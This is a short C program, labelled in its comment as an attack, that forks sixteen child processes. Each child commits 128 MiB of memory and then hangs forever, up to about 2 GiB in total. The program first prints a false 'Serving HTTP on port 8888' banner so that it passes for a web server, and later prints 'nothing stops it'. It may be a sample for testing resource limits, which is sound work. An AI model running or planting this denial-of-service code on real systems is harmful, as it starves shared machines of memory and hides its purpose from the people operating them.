/*
 * Attack: takes all the memory there is: by itself, with its children, and in ways that count as no
 * process's. (Of itself it ends at 2 GiB.)
 */
#define _DEFAULT_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { CHILDREN = 16, PART = 128 << 20 };

int main(void) {
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    for (int i = 0; i < CHILDREN; i++) {
        volatile char *part;
        if (fork() != 0) {
            usleep(100000);
            continue;
        }
        part = malloc(PART);
        for (size_t at = 0; part != NULL && at < PART; at += 4096) part[at] = 1;
        for (;;) pause();
    }
    puts("nothing stops it\ndone");
    fflush(stdout);
    for (;;) pause();
}
